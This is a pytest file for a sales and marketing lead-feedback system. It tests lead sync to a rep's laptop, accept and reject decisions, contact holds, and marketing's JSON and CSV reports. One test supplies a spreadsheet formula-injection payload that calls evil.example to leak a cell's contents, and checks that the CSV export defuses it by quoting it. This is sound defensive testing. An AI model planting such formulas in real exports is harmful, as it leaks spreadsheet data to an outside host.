"""The loop marketing needs, over real HTTP: leads handed over by marketing's system reach
the rep's laptop through sync; the rep accepts, rejects and records outcomes, and holds a
contact; marketing reads the feedback per campaign (JSON and CSV) and the suppression list."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from db.field.holds import ContactHolds
from db.field.leads import LeadDesk
from db.store.local_store import Store
from db.store.replica import LocalReplica
from server.auth import AuthService
from server.cli import main as server_main
from server.ingest import ApiKeys
from server.models import Record
from sync.engine import SyncEngine
from sync.enums import LeadOutcome, RejectReason
from tests.server.conftest import PASSWORD, Clock
from tests.server.test_ingest import Customers, bearer, send, write

LEAD = "lead_handed_over"


def sync(base_url: str, laptop: Store) -> None:
    with httpx.Client(base_url=base_url, timeout=10) as client:
        outcome = SyncEngine(LocalReplica(laptop), client, "ana", PASSWORD).run()
    assert outcome.rejected == 0


def test_lead_feedback_round_trip_into_the_marketing_report(
    tmp_path: Path,
    http: httpx.Client,
    base_url: str,
    auth: AuthService,
    clock: Clock,
    server_database_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    customers = Customers(auth)
    hubspot = ApiKeys(auth.store, auth.clock).add("hubspot")
    at = clock().isoformat()
    body = send(
        http,
        hubspot,
        *(
            {"event_id": f"lead-{n}", "type": LEAD, "occurred_at": at, "email": email,
             "details": {"campaign": campaign, "score": score}}
            for n, (email, campaign, score) in enumerate(
                [
                    ("zoe.berg@acme.example", "webinar-warehouse", 80),
                    ("zoe.berg@acme.example", "ebook-cold-chain", 40),
                    ("ida@suedwerk.example", "webinar-warehouse", 65),  # south: not ana's
                ]
            )
        ),
    )  # fmt: skip
    assert body["accepted"] == 3

    laptop = Store.open(tmp_path / "laptop")
    try:
        sync(base_url, laptop)
        desk = LeadDesk(laptop)
        leads = {lead.campaign: lead for lead in desk.leads()}
        assert set(leads) == {"webinar-warehouse", "ebook-cold-chain"}  # her territory's only
        assert leads["webinar-warehouse"].contact_name == "Zoë Berg"
        assert leads["webinar-warehouse"].score == 80
        desk.accept(leads["webinar-warehouse"].id, "Budget approved for Q1")
        desk.record_outcome(leads["webinar-warehouse"].id, LeadOutcome.LOST, "price")
        desk.reject(leads["ebook-cold-chain"].id, RejectReason.NO_BUDGET, "frozen until 2028")
        until = clock().date() + timedelta(days=30)
        ContactHolds(laptop).place(customers.zoe, until, "spring-promo", "in negotiation")
        sync(base_url, laptop)
    finally:
        laptop.close()

    report = http.get("/v1/marketing/lead-feedback", headers=bearer(hubspot))
    assert report.status_code == 200, report.text
    campaigns = {c["campaign"]: c for c in report.json()["campaigns"]}
    assert campaigns["webinar-warehouse"] | {"lost_reasons": None} == {
        "campaign": "webinar-warehouse",
        "handed_over": 2,
        "undecided": 1,  # Südwerk's, still with its rep
        "accepted": 1,
        "rejected": 0,
        "acceptance_rate": 1.0,
        "reject_reasons": {},
        "won": 0,
        "lost": 1,
        "no_decision": 0,
        "lost_reasons": None,
    }
    assert campaigns["webinar-warehouse"]["lost_reasons"] == ["price"]
    assert campaigns["ebook-cold-chain"]["reject_reasons"] == {"no_budget": 1}
    assert campaigns["ebook-cold-chain"]["acceptance_rate"] == 0.0

    sheet = http.get("/v1/marketing/lead-feedback.csv", headers=bearer(hubspot))
    assert sheet.headers["content-type"].startswith("text/csv")
    rows = {r["campaign"]: r for r in csv.DictReader(io.StringIO(sheet.text))}
    assert rows["ebook-cold-chain"]["reject_reasons"] == "no_budget: 1"
    assert rows["webinar-warehouse"]["lost"] == "1"

    held = http.get("/v1/marketing/suppressions", headers=bearer(hubspot)).json()
    assert held["suppressions"] == [
        {
            "contact_email": "Zoe.Berg@acme.example",
            "contact_name": "Zoë Berg",
            "account_name": "Acme",
            "campaign": "spring-promo",
            "until": until.isoformat(),
            "requested_by": "ana",
            "reason": "in negotiation",
        }
    ]
    clock.advance(days=31)  # expired holds drop off the list
    assert (
        http.get("/v1/marketing/suppressions", headers=bearer(hubspot)).json()["suppressions"] == []
    )

    assert server_main(["--database-url", server_database_url, "report", "leads"]) == 0
    table = capsys.readouterr().out
    assert "webinar-warehouse" in table and "no_budget" in table


def test_marketing_routes_take_api_keys_only(http: httpx.Client, auth: AuthService) -> None:
    tokens = http.post(
        "/v1/auth/login",
        json={
            "username": "ana",
            "password": PASSWORD,
            "client_id": "7b0e9f0c-98b5-4c4e-9a55-2a8f1e4b0c11",
        },
    ).json()
    for path in ("/v1/marketing/lead-feedback", "/v1/marketing/suppressions"):
        assert http.get(path, headers=bearer(tokens["access_token"])).status_code == 401
        assert http.get(path).status_code == 401


def test_the_feedback_csv_defuses_cells_a_spreadsheet_would_run(
    http: httpx.Client,
    auth: AuthService,
    clock: Clock,
    server_database_url: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Campaign names come from marketing's systems, lost reasons from reps: a cell
    starting with =, +, -, @, a tab or a carriage return gets a quote in front (OWASP)."""
    customers = Customers(auth)
    hubspot = ApiKeys(auth.store, auth.clock).add("hubspot")
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    at = clock().isoformat()
    body = send(
        http,
        hubspot,
        *(
            {"event_id": f"lead-{n}", "type": LEAD, "occurred_at": at,
             "email": "zoe.berg@acme.example", "details": {"campaign": campaign}}
            for n, campaign in enumerate([hyperlink, "@SUM(1)", "spring-webinar"])
        ),
    )  # fmt: skip
    assert body["accepted"] == 3
    write(
        auth,
        "lead",
        "north",
        {"account_id": str(customers.acme), "campaign": "+cold-call", "status": "accepted",
         "outcome": "lost", "outcome_reason": "-10% was not enough"},
    )  # fmt: skip

    sheet = http.get("/v1/marketing/lead-feedback.csv", headers=bearer(hubspot))
    assert sheet.status_code == 200, sheet.text
    rows = {r["campaign"]: r for r in csv.DictReader(io.StringIO(sheet.text))}
    assert set(rows) == {f"'{hyperlink}", "'@SUM(1)", "spring-webinar", "'+cold-call"}
    assert rows["'+cold-call"]["lost_reasons"] == "'-10% was not enough"
    # Numbers stay numbers: counts and the acceptance rate are not quoted.
    assert rows["'+cold-call"] | {"campaign": None, "lost_reasons": None} == {
        "campaign": None, "handed_over": "1", "undecided": "0", "accepted": "1",
        "rejected": "0", "acceptance_rate": "1.00", "reject_reasons": "", "won": "0",
        "lost": "1", "no_decision": "0", "lost_reasons": None,
    }  # fmt: skip
    assert rows["'@SUM(1)"]["acceptance_rate"] == ""  # undecided: no rate yet

    assert server_main(["--database-url", server_database_url, "report", "leads", "--csv"]) == 0
    printed = capsys.readouterr().out
    assert printed.rstrip("\n") == sheet.text.rstrip("\n")  # the CLI prints the same sheet
    assert "\n\"'=HYPERLINK(" in printed  # quoted by the CSV writer: the cell holds quotes
    assert "\n'@SUM(1)," in printed


def test_a_decision_taken_back_reaches_the_server_as_undecided_by_no_one(
    tmp_path: Path, http: httpx.Client, base_url: str, auth: AuthService, clock: Clock
) -> None:
    Customers(auth)
    hubspot = ApiKeys(auth.store, auth.clock).add("hubspot")
    event = {
        "event_id": "lead-1",
        "type": LEAD,
        "occurred_at": clock().isoformat(),
        "email": "zoe.berg@acme.example",
        "details": {"campaign": "webinar-warehouse"},
    }
    assert send(http, hubspot, event)["accepted"] == 1
    laptop = Store.open(tmp_path / "laptop")
    try:
        sync(base_url, laptop)
        desk = LeadDesk(laptop)
        (lead,) = desk.leads()
        desk.accept(lead.id, "Budget approved")
        sync(base_url, laptop)
        with auth.store.session() as session:
            stored = session.get(Record, ("lead", lead.id))
            assert stored is not None and stored.data["decided_by"] == "ana"
        desk.undo_decision(lead.id)
        sync(base_url, laptop)
    finally:
        laptop.close()
    with auth.store.session() as session:
        stored = session.get(Record, ("lead", lead.id))
        assert stored is not None
        assert stored.data["status"] == "new" and stored.data["decided_by"] is None
    report = http.get("/v1/marketing/lead-feedback", headers=bearer(hubspot)).json()
    (campaign,) = report["campaigns"]
    assert campaign["undecided"] == 1 and campaign["accepted"] == 0
